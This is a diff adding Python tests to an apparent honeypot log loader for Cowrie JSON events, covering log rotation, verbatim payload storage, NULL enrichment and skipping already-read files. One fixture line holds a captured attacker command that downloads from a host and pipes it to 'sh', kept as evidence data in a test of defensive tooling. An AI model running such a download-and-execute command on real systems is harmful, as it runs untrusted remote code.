@@ -674,3 +674,63 @@ def test_folders_are_loaded_in_the_order_of_rotation(engine: Engine, tmp_path: P
 def _column(engine: Engine, column: object) -> list[object]:
     with read_transaction(engine) as connection:
         return list(connection.execute(select(column)).scalars())  # type: ignore[call-overload]
+
+
+def test_a_renamed_log_keeps_its_unread_tail(engine: Engine, tmp_path: Path) -> None:
+    """After a rotation by renaming, what came before it under the old name and after it under the new one is loaded."""
+    live, rotated = tmp_path / "cowrie.json", tmp_path / "cowrie.json.2026-03-01"
+    loader = BulkLoader(engine)
+    loader.load([write(live, events(20))])
+    write(live, events(26))
+    live.rename(rotated)
+    write(live, events(9, start=800))
+
+    loader.load([tmp_path])
+    loader.load([tmp_path])
+
+    assert 26 + 9 == count(engine, RawEvent)
+
+
+def test_payloads_are_stored_as_they_came(tmp_path: Path) -> None:
+    """Evidence is not rewritten: spaces, escapes, key order and commands of a line are in raw_events as in the log."""
+    line = (
+        '{ "z":1.50, "session" : "s1","eventid":"cowrie.command.input", "input":"wget http:\\/\\/x; \\u001b[1m | sh" }'
+    )
+    engine = get_engine(tmp_path / "x.sqlite")
+    path = tmp_path / "cowrie.json"
+    path.write_text(f"  {line} \r\n")
+
+    BulkLoader(engine).load([path])
+
+    with read_transaction(engine) as connection:
+        assert [(line, "text")] == connection.execute(text("SELECT payload, typeof(payload) FROM raw_events")).all()
+    engine.dispose()
+
+
+def test_what_is_not_known_is_null(engine: Engine, tmp_path: Path) -> None:
+    """A session without enrichment holds SQL NULL, not the JSON text null."""
+    BulkLoader(engine).load([write(tmp_path / "cowrie.json", events(10))])
+
+    with read_transaction(engine) as connection:
+        found = connection.execute(text("SELECT count(*) FROM session_summaries WHERE enrichment IS NULL"))
+        assert 1 == found.scalar_one()
+
+
+def test_a_known_log_is_not_read_again(tmp_path: Path) -> None:
+    """Loading a log with nothing new reads its beginning and its end, not what lies between."""
+    path = write(tmp_path / "cowrie.json", events(27_000))
+    engine = get_engine(tmp_path / "x.sqlite")
+    loader = BulkLoader(engine)
+    loader.load([path])
+    before = _bytes_read()
+
+    result = loader.load([path])
+
+    assert KNOWN == result.files[0].state
+    assert _bytes_read() - before < path.stat().st_size / 2
+    engine.dispose()
+
+
+def _bytes_read() -> int:
+    """Return how many bytes this process has read so far."""
+    return int(Path("/proc/self/io").read_text().split()[1])
